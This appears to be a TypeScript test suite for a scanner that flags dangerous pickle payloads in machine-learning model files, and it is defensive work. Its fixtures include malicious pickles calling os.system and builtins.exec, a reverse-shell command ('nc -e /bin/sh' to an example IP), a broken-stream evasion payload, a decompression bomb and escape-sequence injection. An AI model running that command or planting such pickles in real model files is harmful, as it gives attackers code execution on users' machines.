import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync, zlibSync } from './zlib-shim.ts';
import {
  benignStateDictPickle,
  buildPickle,
  buildStoredZip,
  maliciousPickleGlobal,
  maliciousPickleStackGlobal,
  npyBytes,
  op,
  pytorchZip,
  safetensorsBytes,
} from '../../ingest/scan/build.ts';
import { SCANNER_VERSION } from '../../ingest/scan/classify.ts';
import { scanRemoteFile } from '../../ingest/scan/scan-file.ts';
import { ascii, concatBytes, memoryReader } from './helpers.ts';

const MiB = 1024 * 1024;

async function scan(path: string, bytes: Uint8Array, maxScanBytes = MiB) {
  const { read, stats } = memoryReader(bytes);
  const result = await scanRemoteFile({ path, size: bytes.length, read }, { maxScanBytes });
  assert.equal(result.bytesRead, stats.bytesRead, 'bytesRead reports what the reader served');
  return result;
}

describe('scanRemoteFile: formats that never unpickle', () => {
  it('a safetensors file named .bin is safetensors, not scanned, and only its head is read', async () => {
    const bytes = safetensorsBytes([{ name: 'w', dtype: 'F32', shape: [1024], data: new Uint8Array(4096) }]);
    const r = await scan('pytorch_model.bin', bytes);
    assert.deepEqual(r, { format: 'safetensors', formatSource: 'bytes', scanStatus: undefined, bytesRead: 64 });
  });

  it('a text file is "other" by name, with no scan fields', async () => {
    const r = await scan('README.md', ascii('# Model card\n\nHello.'));
    assert.deepEqual(r, { format: 'other', formatSource: 'name', scanStatus: undefined, bytesRead: 20 });
  });
});

describe('scanRemoteFile: PyTorch zips', () => {
  it('a benign checkpoint is safe, with its globals, scanner version, and a small read', async () => {
    const bytes = pytorchZip(benignStateDictPickle(['w1', 'w2']), { tensorBytes: 8 * MiB });
    const r = await scan('pytorch_model.bin', bytes);
    assert.equal(r.format, 'pytorch-zip');
    assert.equal(r.formatSource, 'bytes');
    assert.equal(r.scanStatus, 'safe');
    assert.deepEqual(r.scanGlobals, ['collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage']);
    assert.equal(r.scanner, SCANNER_VERSION);
    assert.ok(r.bytesRead < bytes.length / 50, `read ${r.bytesRead} of ${bytes.length}`);
  });

  it('a checkpoint whose data.pkl reaches os.system through STACK_GLOBAL is dangerous', async () => {
    const r = await scan('model.pt', pytorchZip(maliciousPickleStackGlobal('nc -e /bin/sh 203.0.113.7 4242')));
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['os.system']);
    assert.match(r.scanReason ?? '', /imports os\.system/);
  });

  it('a payload followed by a deliberately broken stream is still dangerous (nullifAI)', async () => {
    const good = maliciousPickleGlobal();
    const broken = concatBytes(good.subarray(0, good.length - 1), Uint8Array.of(0xff, 0xfe)); // no STOP, junk
    const r = await scan('pytorch_model.bin', pytorchZip(broken));
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['builtins.exec']);
    assert.match(r.scanReason ?? '', /malformed/);
  });

  it('a benign but broken stream is an error, not safe', async () => {
    const good = benignStateDictPickle();
    const r = await scan('pytorch_model.bin', pytorchZip(good.subarray(0, good.length - 10)));
    assert.equal(r.scanStatus, 'error');
    assert.match(r.scanReason ?? '', /could not be fully parsed.*archive\/data\.pkl.*truncated/);
  });

  it('pickle entries over maxScanBytes → unscanned with the reason', async () => {
    const big = buildPickle([op.proto(2), op.binunicode('x'.repeat(5000)), op.pop(), op.emptyDict(), op.stop()]);
    const r = await scan('pytorch_model.bin', pytorchZip(big), 4096);
    assert.equal(r.scanStatus, 'unscanned');
    assert.match(r.scanReason ?? '', /pickle-bearing zip entries is \d+ bytes, over the scan limit of 4096 bytes/);
    assert.equal(r.scanGlobals, undefined);
  });

  it('too many pickle entries → unscanned, before any entry is fetched', async () => {
    const entries = Array.from({ length: 70 }, (_, i) => ({ name: `archive/p${i}.pkl`, data: benignStateDictPickle() }));
    const bytes = buildStoredZip(entries);
    const { read, stats } = memoryReader(bytes);
    const r = await scanRemoteFile({ path: 'x.bin', size: bytes.length, read }, { maxScanBytes: MiB });
    assert.equal(r.scanStatus, 'unscanned');
    assert.match(r.scanReason ?? '', /70 pickle-bearing entries, over the limit of 64/);
    assert.ok(stats.calls <= 3, `${stats.calls} reads: head, tail, maybe the directory`);
  });

  it('a corrupt zip is an error naming the problem', async () => {
    const bytes = pytorchZip(benignStateDictPickle());
    const r = await scan('pytorch_model.bin', bytes.subarray(0, bytes.length - 40));
    assert.equal(r.scanStatus, 'error');
    assert.match(r.scanReason ?? '', /^corrupt zip: /);
    assert.equal(r.scanner, SCANNER_VERSION);
  });

  it('a zip with no pickle inside is safe, and says why', async () => {
    const r = await scan('weights.bin', buildStoredZip([{ name: 'notes/readme.txt', data: ascii('hi') }]));
    assert.equal(r.scanStatus, 'safe');
    assert.match(r.scanReason ?? '', /no \.pkl or \.npy entry/);
  });

  it('a 7z archive named like a checkpoint is an error that says 7z', async () => {
    const sevenZip = concatBytes(Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4), new Uint8Array(100));
    const r = await scan('pytorch_model.bin', sevenZip);
    assert.equal(r.format, 'pytorch-zip');
    assert.equal(r.formatSource, 'name');
    assert.equal(r.scanStatus, 'error');
    assert.match(r.scanReason ?? '', /7z archive/);
  });
});

describe('scanRemoteFile: raw pickles and joblib', () => {
  it('a protocol-0 pickle named .dat is found by its bytes and is dangerous', async () => {
    const r = await scan('danger.dat', maliciousPickleGlobal());
    assert.equal(r.format, 'pickle');
    assert.equal(r.formatSource, 'bytes');
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['builtins.exec']);
  });

  it('a raw pickle over maxScanBytes → unscanned, reading only the head', async () => {
    const big = buildPickle([op.proto(2), op.binunicode('x'.repeat(10_000)), op.pop(), op.global('os', 'system'), op.stop()]);
    const r = await scan('model.pkl', big, 1000);
    assert.equal(r.scanStatus, 'unscanned');
    assert.match(r.scanReason ?? '', /the file is \d+ bytes, over the scan limit of 1000 bytes \(maxScanBytes\)/);
    assert.equal(r.bytesRead, 64);
  });

  it('trailing non-pickle data after a complete pickle is a note, not an error (legacy torch layout)', async () => {
    const r = await scan('old_model.bin', concatBytes(benignStateDictPickle(), Uint8Array.of(0xff, 0x00, 0x13, 0x37)));
    assert.equal(r.format, 'pickle');
    assert.equal(r.scanStatus, 'safe');
    assert.match(r.scanReason ?? '', /data after 1 complete pickle\(s\) was not parsed/);
  });

  it('a custom class makes it suspicious', async () => {
    const bytes = buildPickle([op.proto(2), op.global('sklearn.linear_model._logistic', 'LogisticRegression'), op.emptyTuple(), op.reduce(), op.stop()]);
    const r = await scan('clf.joblib', bytes);
    assert.equal(r.format, 'joblib');
    assert.equal(r.scanStatus, 'suspicious');
    assert.match(r.scanReason ?? '', /outside the allowlist: sklearn/);
  });

  it('gzip- and zlib-compressed joblib dumps are decompressed (bounded) and scanned', async () => {
    const gz = await scan('model.joblib', gzipSync(maliciousPickleStackGlobal('id')));
    assert.equal(gz.scanStatus, 'dangerous');
    assert.deepEqual(gz.scanGlobals, ['os.system']);
    const z = await scan('model.joblib', zlibSync(maliciousPickleGlobal()));
    assert.equal(z.scanStatus, 'dangerous');
    const bomb = await scan('model.joblib', gzipSync(new Uint8Array(8 * MiB)), 64 * 1024);
    assert.equal(bomb.scanStatus, 'unscanned');
    assert.match(bomb.scanReason ?? '', /decompresses to more than the scan limit/);
  });
});

describe('scanRemoteFile: numpy', () => {
  it('a plain float array is safe without reading the data', async () => {
    const bytes = npyBytes('<f4', [100_000], new Uint8Array(400_000));
    const r = await scan('emb.npy', bytes);
    assert.equal(r.scanStatus, 'safe');
    assert.match(r.scanReason ?? '', /plain numpy array \(dtype '<f4'\)/);
    assert.ok(r.bytesRead <= 128);
  });

  it('an object array carrying a malicious pickle is dangerous', async () => {
    const r = await scan('arr.npy', npyBytes('|O', [1], maliciousPickleGlobal()));
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['builtins.exec']);
  });

  it('an .npz whose object entry is malicious is dangerous; plain entries add nothing', async () => {
    const npz = buildStoredZip([
      { name: 'arr_0.npy', data: npyBytes('<f8', [2], new Uint8Array(16)) },
      { name: 'arr_1.npy', data: npyBytes('|O', [1], maliciousPickleStackGlobal('id')) },
    ]);
    const r = await scan('data.npz', npz);
    assert.equal(r.format, 'numpy');
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['os.system']);
  });
});

describe('scanRemoteFile: the source misbehaving', () => {
  it('a reader that throws gives an error result, not an exception', async () => {
    const read = async () => {
      throw new Error('connection reset');
    };
    const r = await scanRemoteFile({ path: 'pytorch_model.bin', size: 1000, read }, { maxScanBytes: MiB });
    assert.equal(r.scanStatus, 'error');
    assert.match(r.scanReason ?? '', /read failed: connection reset/);
    assert.equal(r.format, 'pytorch-zip');
    assert.equal(r.formatSource, 'name');
  });

  it('an invalid size is an error; an empty file is safe', async () => {
    const read = async () => new Uint8Array();
    const bad = await scanRemoteFile({ path: 'x.pkl', size: Number.NaN, read }, { maxScanBytes: MiB });
    assert.equal(bad.scanStatus, 'error');
    assert.match(bad.scanReason ?? '', /invalid file size/);
    const empty = await scanRemoteFile({ path: 'x.pkl', size: 0, read }, { maxScanBytes: MiB });
    assert.equal(empty.scanStatus, 'safe');
    assert.equal(empty.bytesRead, 0);
  });

  it('control characters in hostile global names do not reach the reason text', async () => {
    const bytes = buildPickle([op.proto(4), op.unicode('os\u001b[31m'), op.unicode('system'), op.stackGlobal(), op.stop()]);
    const r = await scan('x.pkl', bytes);
    assert.equal(r.scanStatus, 'dangerous');
    assert.deepEqual(r.scanGlobals, ['os\u001b[31m.system'], 'the global itself is kept as found');
    assert.doesNotMatch(r.scanReason ?? '', /\u001b/);
  });
});
